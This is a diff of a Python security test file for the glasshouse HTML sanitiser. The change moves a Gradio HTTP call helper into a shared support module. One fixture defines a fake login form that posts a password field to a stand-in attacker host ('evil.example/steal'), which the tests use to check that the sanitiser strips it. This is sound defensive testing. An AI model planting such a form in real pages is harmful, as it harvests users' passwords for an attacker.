@@ -5,17 +5,16 @@ glasshouse.sanitize (nh3) on the server before it reaches a browser."""
 
 from __future__ import annotations
 
-import json
 import re
 import shutil
 import tempfile
 from collections.abc import Iterator
 from pathlib import Path
 
-import httpx
 import pytest
 
 from glasshouse.sanitize import clean_html, markdown_to_html
+from tests.security.content_support import gradio_call
 
 FORM = ('<form action="https://evil.example/steal" method="post">'
         '<input name="password" type="password" placeholder="Password">'
@@ -120,15 +119,9 @@ def hostile_app() -> Iterator[tuple[str, str, str]]:
 
 
 def _call(base: str, api: str, data: list, params: dict | None = None) -> list:
-    """Call a Gradio event over HTTP as a browser would and return its output values."""
-    r = httpx.post(f"{base}/gradio_api/call/{api}", json={"data": data}, params=params,
-                   timeout=60)
-    r.raise_for_status()
-    event = r.json()["event_id"]
-    stream = httpx.get(f"{base}/gradio_api/call/{api}/{event}", params=params, timeout=60).text
-    lines = stream.splitlines()
-    assert "event: complete" in lines, stream[:500]
-    return json.loads(lines[lines.index("event: complete") + 1].removeprefix("data: "))
+    kind, out = gradio_call(base, api, data, params)
+    assert kind == "complete", out
+    return out
 
 
 @pytest.mark.slow
